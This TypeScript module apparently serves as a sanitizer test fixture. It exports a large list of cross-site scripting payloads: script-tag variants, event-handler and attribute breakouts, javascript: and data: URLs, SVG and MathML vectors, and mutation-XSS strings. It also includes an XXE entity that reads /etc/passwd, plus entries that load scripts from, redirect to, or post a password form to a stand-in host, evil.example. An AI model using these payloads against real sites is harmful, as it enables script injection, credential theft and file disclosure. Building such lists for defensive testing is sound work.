/** The script of each payload. It sets `isBreached`, which `watchBreaches` detects. */
export const evil = "window.isBreached=1,alert(1)";

const scripts = [
  `<script>${evil}</script>`,
  `<ScRiPt>${evil}</sCrIpT>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script src=//evil.example/x.js defer></script>`,
  `<script type=module>${evil}</script>`,
  `<script type="importmap">{"imports":{"react":"https://evil.example/x.js"}}</script>`,
  `<script >${evil}</script >`,
  `<script\t>${evil}</script\n>`,
  `<script/x>${evil}</script>`,
  `<scr<script>ipt>${evil}</scr</script>ipt>`,
  `<<script>${evil}//<</script>`,
  `</script><script>${evil}</script>`,
  `</title><script>${evil}</script>`,
  `</textarea><script>${evil}</script>`,
  `--><script>${evil}</script>`,
  `]]><script>${evil}</script>`,
  `"><script>${evil}</script>`,
  `'><script>${evil}</script>`,
  `\`><script>${evil}</script>`,
  `&lt;script&gt;${evil}&lt;/script&gt;`,
  `&#60;script&#62;${evil}&#60;/script&#62;`,
  `%3Cscript%3E${evil}%3C/script%3E`,
  `\\u003cscript\\u003e${evil}\\u003c/script\\u003e`,
  `＜script＞${evil}＜/script＞`,
  `<script>${evil}`,
];

/** Elements with an event that fires by itself, or at the first interaction. */
const handled = [
  ["img src=x", "onerror"],
  ["img src=x srcset=y", "onerror"],
  ["svg", "onload"],
  ["svg><animate attributeName=x", "onbegin"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["video><source src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video poster=x autoplay", "onloadstart"],
  ["input autofocus", "onfocus"],
  ["input type=image src=x", "onerror"],
  ["textarea autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a href=# tabindex=1 autofocus", "onfocusin"],
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["iframe src=/", "onload"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["style", "onload"],
  ["meta http-equiv=x", "onclick"],
  ["div style=animation-name:x", "onanimationstart"],
  ["div style=transition:1s", "ontransitionend"],
  ["div", "onpointerenter"],
  ["p", "onmouseover"],
  ["form", "onsubmit"],
  ["dialog open", "oncancel"],
  ["x contenteditable", "onbeforeinput"],
] as const;

const handlers = handled.flatMap(([element, event]) => [
  `<${element} ${event}=${evil}>`,
  `"><${element} ${event}="${evil}" x="`,
  `'/><${element}/${event.toUpperCase()}='${evil}'//`,
]);

/** For texts that are inserted into a quoted attribute. */
const attributes = ["onmouseover", "onfocus", "onerror", "onload", "style", "srcdoc", "formaction"].flatMap((name) => [
  `" ${name}="${evil}" autofocus x="`,
  `' ${name}='${evil}' autofocus x='`,
]);

const elements = [
  `<iframe srcdoc="<script>parent.${evil}</script>"></iframe>`,
  `<iframe src="javascript:parent.${evil}"></iframe>`,
  `<iframe src="data:text/html,<script>${evil}</script>"></iframe>`,
  `<object data="javascript:${evil}"></object>`,
  `<object type="text/html" data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="javascript:${evil}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${evil}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel="preload" as="script" href="https://evil.example/x.js">`,
  `<form action="https://evil.example/"><input name="password" type="password"><button>Log In</button></form>`,
  `<form action="javascript:${evil}"><button autofocus>Go</button></form>`,
  `<button formaction="javascript:${evil}">Save</button>`,
  `<input name="attributes"><input name="nodeName">`,
  `<a id="config"></a><a id="config" name="url" href="https://evil.example">x</a>`,
  `<img name="body"><form id="root"></form>`,
  `<frameset onload="${evil}"><frame src="javascript:${evil}">`,
  `<portal src="https://evil.example"></portal>`,
  `<isindex action="javascript:${evil}" type="image">`,
  `<template><script>${evil}</script></template>`,
  `<div><template shadowrootmode="open"><script>${evil}</script></template></div>`,
  `<map name="m"><area href="javascript:${evil}" shape="default"></map><img usemap="#m" src="x">`,
  `<xml id="x"><a>${evil}</a></xml>`,
  `<!--<img src="--><img src=x onerror=${evil}//">`,
];

const drawings = [
  `<svg><script>${evil}</script></svg>`,
  `<svg><script href="data:text/javascript,${evil}"/></svg>`,
  `<svg><a xlink:href="javascript:${evil}"><text y="20">x</text></a></svg>`,
  `<svg><a href="javascript:${evil}"><rect width="99" height="99"/></a></svg>`,
  `<svg><animate href="#x" attributeName="href" values="javascript:${evil}"/><a id="x"><text>x</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${evil}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${evil}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${evil}"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${evil}></style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${evil}</script>]]></svg>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>`,
  `<math href="javascript:${evil}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${evil}">x</maction></math>`,
];

/** Markup that changes its meaning when it is parsed and serialised again. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${evil}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${evil}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${evil}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${evil}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${evil}></style></annotation-xml></math>`,
  `<listing>&lt;img src=x onerror=${evil}&gt;</listing>`,
  `<table><tr><td><svg><desc><td><a title="</desc><img src=x onerror=${evil}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${evil}>">`,
  `<xmp><p title="</xmp><svg/onload=${evil}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${evil}>">`,
  `<img alt="\`x\` onerror=${evil} \`" src=x>`,
  `<p id="\`\`onmouseover=${evil}">x</p>`,
  `<svg><![CDATA[><img src=x onerror=${evil}>]]>`,
  `<option><style></option></select><img src=x onerror=${evil}></style>`,
];

/** Payloads in elements and attributes of HTML, SVG and MathML. */
export const markup = [scripts, handlers, attributes, elements, drawings, mutations].flat();
